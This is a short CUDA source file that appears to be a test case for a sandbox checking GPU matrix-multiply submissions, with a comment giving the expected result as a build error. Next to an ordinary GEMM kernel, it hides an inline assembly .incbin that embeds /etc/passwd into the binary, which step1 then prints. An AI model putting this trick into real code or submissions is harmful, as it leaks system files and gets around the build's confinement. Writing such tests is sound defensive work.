// Lets the assembler copy a file of the system into the object file, to print it later.
// Verdict: build_error, the file is not there for the assembler.
#include "gemm.h"

#include <cstdio>

__global__ void multiply(int M, int N, int K, float alpha, const float *A, const float *B, float beta, float *C) {
  int col = blockIdx.x * blockDim.x + threadIdx.x;
  int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row < M && col < N) {
    float sum = 0;
    for (int k = 0; k < K; k++) sum += A[row * K + k] * B[k * N + col];
    C[row * N + col] = alpha * sum + beta * C[row * N + col];
  }
}

#ifndef __CUDA_ARCH__
asm(".section .rodata\n"
    "secret: .incbin \"/etc/passwd\"\n"
    "secret_end: .byte 0\n"
    ".previous\n");
#endif
extern "C" const char secret[];

void step1(int M, int N, int K, float alpha, const float *A, const float *B, float beta, float *C) {
  std::printf("%s", secret);
  dim3 block(32, 8);
  dim3 grid((N + 31) / 32, (M + 7) / 8);
  multiply<<<grid, block>>>(M, N, K, alpha, A, B, beta, C);
}
